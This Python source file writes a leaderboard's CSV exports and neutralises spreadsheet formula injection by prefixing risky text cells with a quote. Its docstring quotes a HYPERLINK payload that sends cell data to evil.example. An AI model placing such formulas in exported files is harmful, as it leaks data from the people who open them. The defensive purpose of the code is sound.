"""CSV the arena writes for people, who open it in a spreadsheet: no text cell runs as a formula.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with = + - or @ as a formula
(and some drop a leading tab or carriage return before looking), so an owner's organisation
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would run on the machine of whoever opens
/leaderboard.csv. OWASP's advice on CSV injection is followed: such a text cell gets a single
quote in front, which spreadsheets show as text and never evaluate.

Only text is neutralised. Numbers are passed as numbers (int, float) and written as the csv module
writes them (floats by repr, every digit kept): a negative rating such as -12.5 is a value, not a
formula, and has to stay a number that a spreadsheet and pandas read as one. A caller that has a
number therefore passes the number, never its text, and every CSV of the arena is written here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Final

Cell = str | int | float | None
# OWASP's list: the four formula signs, and tab and carriage return, which a spreadsheet may
# strip before it looks at what follows.
FORMULA_STARTS: Final = frozenset("=+-@\t\r")
TEXT_MARK: Final = "'"


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """Rows as RFC 4180 CSV, every text cell neutralised."""
    buffer = io.StringIO()
    # The csv module quotes a cell only for the characters of the line terminator (and the
    # delimiter and quote): with "\n" alone, a carriage return in an answer went out unquoted
    # and ended the row early for every reader. RFC 4180's "\r\n" gets both quoted.
    writer = csv.writer(buffer, lineterminator="\r\n")
    # One expression, no call per cell: a function call per cell made a 200,000-row battles
    # export 2.8 times slower to write, this adds a sixth.
    writer.writerows(
        [
            TEXT_MARK + cell if isinstance(cell, str) and cell[:1] in FORMULA_STARTS else cell
            for cell in row
        ]
        for row in rows
    )
    return buffer.getvalue()
